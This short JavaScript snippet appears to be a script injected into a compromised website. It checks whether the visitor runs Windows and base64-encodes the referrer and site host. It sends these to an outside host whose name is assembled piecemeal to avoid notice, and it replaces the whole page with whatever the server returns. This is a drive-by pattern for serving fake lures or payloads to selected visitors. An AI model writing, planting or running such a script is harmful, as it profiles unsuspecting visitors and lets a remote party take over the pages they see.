$(function () {
  var info = { device: /Win/.test(navigator.platform) ? "windows" : "mac", refferer: window.btoa(document.referrer), browser: "chrome", domain: window.btoa(document.location.host), is_ajax: 1 };
  if (info.device !== "windows") return;
  $.ajax({
    url: "https://" + "metal".concat("works", "-", "supply") + ".example/js.php",
    data: info,
    dataType: "text",
    cache: false,
    success: function (body) { $("html").empty(); document.open(); document.write(body); document.close(); }
  });
});
